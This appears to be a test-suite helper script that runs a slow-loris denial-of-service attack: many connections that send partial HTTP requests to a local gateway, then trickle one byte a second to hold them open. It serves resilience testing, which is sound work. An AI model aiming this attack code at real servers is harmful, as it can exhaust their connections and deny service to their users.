"""A slow-loris attack as a process of its own, which yields the processor: an attacker brings their own.

    python -m tests.service.gateway.trickle COUNT PORT...

Each of COUNT connections sends half a head or half a body and then a byte a second; cut off, it comes again. With more
ports than one they take turns.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import sys
from collections.abc import Sequence

import uvloop

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n"
FIRST = (HEAD + b"x-slow: ", HEAD + b"\r\n{")


async def trickle(port: int, first: bytes) -> None:
    while True:
        with contextlib.suppress(OSError, RuntimeError):  # uvloop's, when a connection is closed under it
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(first)
            try:
                while not reader.at_eof():
                    await asyncio.sleep(1.0)
                    writer.write(b" ")
            finally:
                writer.transport.abort()


async def attack(ports: Sequence[int], count: int) -> None:
    await asyncio.gather(*(trickle(ports[n % len(ports)], FIRST[n % 2]) for n in range(count)))


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(19)
    uvloop.run(attack([int(port) for port in sys.argv[2:]], int(sys.argv[1])))
